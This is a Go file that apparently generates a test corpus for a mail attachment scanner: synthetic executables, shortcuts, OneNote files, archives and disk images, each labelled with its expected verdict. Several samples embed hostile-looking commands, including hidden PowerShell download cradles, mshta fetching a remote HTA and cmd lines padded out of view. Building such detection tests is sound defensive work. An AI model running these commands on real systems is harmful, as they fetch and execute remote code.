package corpus

import (
	"bytes"
	"encoding/binary"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"strings"

	"github.com/airlockmail/airlock/verdict"
)

var stdImports = map[string][]string{
	"kernel32.dll": {"GetStdHandle", "WriteFile", "ExitProcess", "GetModuleHandleA", "GetCommandLineA", "HeapAlloc", "GetProcessHeap", "CloseHandle"},
	"user32.dll":   {"MessageBoxA"},
}

func stdSections() []PESection {
	return []PESection{
		{Name: ".text", Data: Code(2048), Flags: SCNCode | SCNExecute | SCNRead},
		{Name: ".rdata", Data: []byte(strings.Repeat("Hello from a harmless program.\x00", 20)), Flags: SCNData | SCNRead},
		{Name: ".data", Data: make([]byte, 256), Flags: SCNData | SCNRead | SCNWrite},
	}
}

// HelloPE is the clean executable of the corpus.
func HelloPE() []byte { return PE{Sections: stdSections(), Imports: stdImports}.Bytes() }

// certificate is a WIN_CERTIFICATE holding a DER SEQUENCE (not a real
// signature: the analyzer only checks the structure).
func certificate() []byte {
	der := append([]byte{0x30, 0x82, 0x01, 0x00}, Noise(256, 3)...)
	c := binary.LittleEndian.AppendUint32(nil, uint32(8+len(der)))
	c = binary.LittleEndian.AppendUint16(c, 0x0200)
	c = binary.LittleEndian.AppendUint16(c, 0x0002)
	return append(c, der...)
}

// ELF writes a minimal 64-bit ELF executable with one PT_LOAD segment
// holding data, and no section headers.
func ELF(data []byte) []byte {
	le := binary.LittleEndian
	h := make([]byte, 64+56)
	copy(h, "\x7fELF\x02\x01\x01")
	le.PutUint16(h[16:], 2)    // ET_EXEC
	le.PutUint16(h[18:], 0x3e) // x86-64
	le.PutUint32(h[20:], 1)
	le.PutUint64(h[24:], 0x400000+120)
	le.PutUint64(h[32:], 64) // phoff
	le.PutUint16(h[52:], 64)
	le.PutUint16(h[54:], 56)
	le.PutUint16(h[56:], 1)
	p := h[64:]
	le.PutUint32(p[0:], 1) // PT_LOAD
	le.PutUint32(p[4:], 5)
	le.PutUint64(p[8:], 0)
	le.PutUint64(p[16:], 0x400000)
	le.PutUint64(p[24:], 0x400000)
	le.PutUint64(p[32:], uint64(120+len(data)))
	le.PutUint64(p[40:], uint64(120+len(data)))
	le.PutUint64(p[48:], 0x1000)
	return append(h, data...)
}

func executableSamples() []Sample {
	upx := PE{
		Sections: []PESection{
			{Name: "UPX0", Flags: SCNCode | SCNExecute | SCNRead | SCNWrite},
			{Name: "UPX1", Data: Noise(16384, 42), Flags: SCNCode | SCNExecute | SCNRead | SCNWrite},
		},
		EntrySection: 1, EntryOffset: 0x3000,
		Imports: map[string][]string{"kernel32.dll": {"LoadLibraryA", "GetProcAddress", "VirtualProtect", "ExitProcess"}},
	}
	inject := PE{Sections: stdSections(), Imports: map[string][]string{
		"kernel32.dll": {"OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread", "CloseHandle", "ExitProcess", "GetLastError", "Sleep"},
	}}
	dotnet := PE{
		Sections: []PESection{{Name: ".text", Data: append(Code(512), []byte("\x00<Module>\x00Loader\x00FromBase64String\x00Load\x00Invoke\x00EntryPoint\x00GetManifestResourceStream\x00")...), Flags: SCNCode | SCNExecute | SCNRead}},
		Imports:  map[string][]string{"mscoree.dll": {"_CorExeMain"}},
		CLR:      true,
	}
	dotnetClean := PE{
		Sections: []PESection{{Name: ".text", Data: append(Code(512), []byte("\x00<Module>\x00Program\x00Main\x00WriteLine\x00Console\x00")...), Flags: SCNCode | SCNExecute | SCNRead}},
		Imports:  map[string][]string{"mscoree.dll": {"_CorExeMain"}},
		CLR:      true,
	}
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	return []Sample{
		{Name: "clean-hello.exe", Want: verdict.Clean, Why: "ordinary small program", Data: HelloPE()},
		{Name: "clean-signed.exe", Want: verdict.Clean, Why: "program with a well-formed certificate table", Data: PE{Sections: stdSections(), Imports: stdImports, Certificate: certificate()}.Bytes()},
		{Name: "clean-installer.exe", Want: verdict.Clean, Why: "installer with plain data appended (overlay)", Data: PE{Sections: stdSections(), Imports: stdImports, Overlay: []byte(strings.Repeat("[Setup]\r\nAppName=Example\r\n", 100))}.Bytes()},
		{Name: "clean-dotnet.exe", Want: verdict.Clean, Why: ".NET console program", Data: dotnetClean.Bytes()},
		{Name: "clean-resources.exe", Want: verdict.Clean, Why: "program with compressed resources and compressed debug sections (as Go and MSVC builds have)", Data: PE{Sections: append(stdSections(),
			PESection{Name: ".zdebug", Data: Noise(8192, 21), Flags: SCNData | SCNRead},
			PESection{Name: ".rsrc", Data: Noise(8192, 22), Flags: SCNData | SCNRead}), Imports: stdImports}.Bytes()},
		{Name: "upx-packed.exe", Want: verdict.HighlySuspicious, Why: "UPX sections, high entropy, LoadLibrary/GetProcAddress only", Data: upx.Bytes()},
		{Name: "injector.exe", Want: verdict.HighlySuspicious, Why: "VirtualAllocEx + WriteProcessMemory + CreateRemoteThread", Data: inject.Bytes()},
		{Name: "no-imports.exe", Want: verdict.Suspicious, Why: "imports nothing", Data: PE{Sections: stdSections()}.Bytes()},
		{Name: "entry-outside.exe", Want: verdict.HighlySuspicious, Why: "entry point outside every section", Data: PE{Sections: stdSections(), Imports: stdImports, EntryRVA: 0x90000}.Bytes()},
		{Name: "forged-signature.exe", Want: verdict.HighlySuspicious, Why: "security directory points past the end of the file", Data: PE{Sections: stdSections(), Imports: stdImports, Security: [2]uint32{0x100000, 0x2000}}.Bytes()},
		{Name: "overlay-exe.exe", Want: verdict.HighlySuspicious, Why: "another executable appended as overlay", Data: PE{Sections: stdSections(), Imports: stdImports, Overlay: HelloPE()}.Bytes()},
		{Name: "dotnet-loader.exe", Want: verdict.HighlySuspicious, Why: ".NET program loading an assembly from base64/resources", Data: dotnet.Bytes()},
		{Name: "upx-elf", Want: verdict.Suspicious, Why: "ELF with a UPX marker and a high-entropy segment", Data: ELF(append([]byte("\x00UPX!\x00"), Noise(16384, 5)...))},
		{Name: "clean-tool-elf", Want: verdict.Clean, Why: "small ELF program", Data: ELF(Code(4096))},

		{Name: "powershell-cradle.lnk", Want: verdict.Malicious, Why: "shortcut starting PowerShell with a download cradle", Data: LNK{Target: ps, Args: "-w hidden -c \"" + cradle + "\"", Icon: `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, Show: 7}.Bytes()},
		{Name: "padded-cmd.lnk", Want: verdict.HighlySuspicious, Why: "cmd.exe with arguments padded out of view", Data: LNK{Target: `C:\Windows\System32\cmd.exe`, Args: strings.Repeat(" ", 300) + "/c start invoice.pdf & copy /y x.dat %TEMP%\\x.exe", Icon: `%SystemRoot%\System32\imageres.dll`}.Bytes()},
		{Name: "mshta-remote.lnk", Want: verdict.Malicious, Why: "shortcut running mshta on a remote HTA", Data: LNK{Target: `C:\Windows\System32\mshta.exe`, Args: "http://203.0.113.9/a.hta", Icon: `C:\Windows\System32\shell32.dll`}.Bytes()},
		{Name: "clean-app.lnk", Want: verdict.Clean, Why: "shortcut to an installed program", Data: LNK{Target: `C:\Program Files\Example\App\app.exe`, WorkingDir: `C:\Program Files\Example\App`}.Bytes()},

		{Name: "hta.one", Want: verdict.Malicious, Why: "OneNote with an embedded HTA", Data: OneNote(ZipEntry{Name: "open.hta", Data: []byte(`<html><HTA:APPLICATION id="x"><script language="VBScript">CreateObject("WScript.Shell").Run "cmd /c calc", 0</script></html>`)})},
		{Name: "exe.one", Want: verdict.Malicious, Why: "OneNote with an embedded program", Data: OneNote(ZipEntry{Name: "view.exe", Data: HelloPE()})},
		{Name: "batch.one", Want: verdict.Malicious, Why: "OneNote with an embedded batch file", Data: OneNote(ZipEntry{Name: "click.bat", Data: []byte("@echo off\r\npowershell -w hidden -enc " + PSEncode(cradle) + "\r\n")})},
		{Name: "clean-notes.one", Want: verdict.Clean, Why: "OneNote with an embedded picture", Data: OneNote(ZipEntry{Name: "whiteboard.png", Data: pngImage()})},

		{Name: "clean-photo.png", Want: verdict.Clean, Why: "a PNG picture", Data: pngImage()},
		{Name: "clean-photo.jpg", Want: verdict.Clean, Why: "a JPEG picture", Data: jpegImage()},
		{Name: "clean-data.csv", Want: verdict.Clean, Why: "a CSV export", Data: []byte("id,name,amount\n1,Alice,10.50\n2,Bob,7.25\n")},
		{Name: "eicar.com", Want: verdict.Malicious, Why: "the EICAR test file", Data: []byte(EICAR)},
	}
}

func pngImage() []byte {
	img := image.NewRGBA(image.Rect(0, 0, 64, 48))
	for y := 0; y < 48; y++ {
		for x := 0; x < 64; x++ {
			img.Set(x, y, color.RGBA{uint8(x * 4), uint8(y * 5), 128, 255})
		}
	}
	var b bytes.Buffer
	png.Encode(&b, img)
	return b.Bytes()
}

func jpegImage() []byte {
	img := image.NewRGBA(image.Rect(0, 0, 64, 48))
	for y := 0; y < 48; y++ {
		for x := 0; x < 64; x++ {
			img.Set(x, y, color.RGBA{uint8(x * 4), 90, uint8(y * 5), 255})
		}
	}
	var b bytes.Buffer
	jpeg.Encode(&b, img, &jpeg.Options{Quality: 80})
	return b.Bytes()
}

func containerSamples() []Sample {
	doc := SimplePDF("Invoice 4711", "")
	lnk := LNK{Target: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, Args: "-w hidden -c \"" + cradle + "\""}.Bytes()
	return []Sample{
		{Name: "eicar.zip", Want: verdict.Malicious, Why: "EICAR deflated inside a zip", Data: Zip(ZipEntry{Name: "eicar.com", Data: []byte(EICAR)})},
		{Name: "eicar-nested.zip", Want: verdict.Malicious, Why: "EICAR in a zip in a zip", Data: Zip(ZipEntry{Name: "inner.zip", Data: Zip(ZipEntry{Name: "docs/readme.txt", Data: []byte(EICAR)})})},
		{Name: "eicar.tar.gz", Want: verdict.Malicious, Why: "EICAR in a gzip-compressed tar", Data: TarGz(ZipEntry{Name: "test/eicar.txt", Data: []byte(EICAR)})},
		{Name: "double-extension.zip", Want: verdict.HighlySuspicious, Why: "invoice.pdf.exe", Data: Zip(ZipEntry{Name: "invoice.pdf.exe", Data: HelloPE()})},
		{Name: "rtlo.zip", Want: verdict.HighlySuspicious, Why: "right-to-left override hiding .scr", Data: Zip(ZipEntry{Name: "invoice\u202efdp.scr", Data: HelloPE()})},
		{Name: "exe-among-docs.zip", Want: verdict.HighlySuspicious, Why: "a program among PDFs", Data: Zip(ZipEntry{Name: "scan1.pdf", Data: doc}, ZipEntry{Name: "scan2.pdf", Data: doc}, ZipEntry{Name: "viewer.exe", Data: HelloPE()})},
		{Name: "js-dropper.zip", Want: verdict.Malicious, Why: "zipped JScript dropper", Data: Zip(ZipEntry{Name: "invoice.js", Data: []byte(jsDropper)})},
		{Name: "lnk.zip", Want: verdict.Malicious, Why: "zipped PowerShell shortcut", Data: Zip(ZipEntry{Name: "document.lnk", Data: lnk})},
		{Name: "encrypted-docs.zip", Want: verdict.Unscannable, Why: "encrypted members, document names", Data: Zip(ZipEntry{Name: "contract.pdf", Data: make([]byte, 100), Encrypted: true}, ZipEntry{Name: "terms.docx", Data: make([]byte, 80), Encrypted: true})},
		{Name: "encrypted-exe.zip", Want: verdict.Suspicious, Why: "encrypted program (the name is visible)", Data: Zip(ZipEntry{Name: "setup.exe", Data: make([]byte, 200), Encrypted: true})},
		{Name: "clean-docs.zip", Want: verdict.Clean, Why: "zip of a PDF, a CSV and a picture", Data: Zip(ZipEntry{Name: "invoice.pdf", Data: doc}, ZipEntry{Name: "items.csv", Data: []byte("a,b\n1,2\n")}, ZipEntry{Name: "logo.png", Data: pngImage()})},
		{Name: "clean-src.tar.gz", Want: verdict.Clean, Why: "source tarball", Data: TarGz(ZipEntry{Name: "src/main.c", Data: []byte("int main(void) { return 0; }\n")}, ZipEntry{Name: "src/Makefile", Data: []byte("all:\n\tcc -o main main.c\n")})},

		{Name: "lnk.iso", Want: verdict.Malicious, Why: "ISO with a PowerShell shortcut", Data: ISO("DOCS", ISOFile{Name: "DOCUMENT.LNK", Data: lnk}, ISOFile{Name: "README.TXT", Data: []byte("open document")})},
		{Name: "exe.iso", Want: verdict.HighlySuspicious, Why: "ISO with a double-extension program", Data: ISO("INVOICE", ISOFile{Name: "INVOICE.PDF.EXE", Data: HelloPE()})},
		{Name: "autorun.iso", Want: verdict.Suspicious, Why: "ISO with autorun.inf and setup.exe", Data: ISO("SETUP", ISOFile{Name: "AUTORUN.INF", Data: []byte("[autorun]\r\nopen=setup.exe\r\n")}, ISOFile{Name: "SETUP.EXE", Data: HelloPE()})},
		{Name: "eicar.iso", Want: verdict.Malicious, Why: "ISO with the EICAR file", Data: ISO("TEST", ISOFile{Name: "EICAR.COM", Data: []byte(EICAR)})},
		{Name: "clean-photos.iso", Want: verdict.Clean, Why: "ISO with pictures and a text file", Data: ISO("PHOTOS", ISOFile{Name: "PHOTO1.JPG", Data: jpegImage()}, ISOFile{Name: "NOTES.TXT", Data: []byte("holiday pictures")})},
		{Name: "exe.vhd", Want: verdict.HighlySuspicious, Why: "fixed VHD whose raw bytes hold a program", Data: VHD(append(make([]byte, 4096), HelloPE()...))},
	}
}
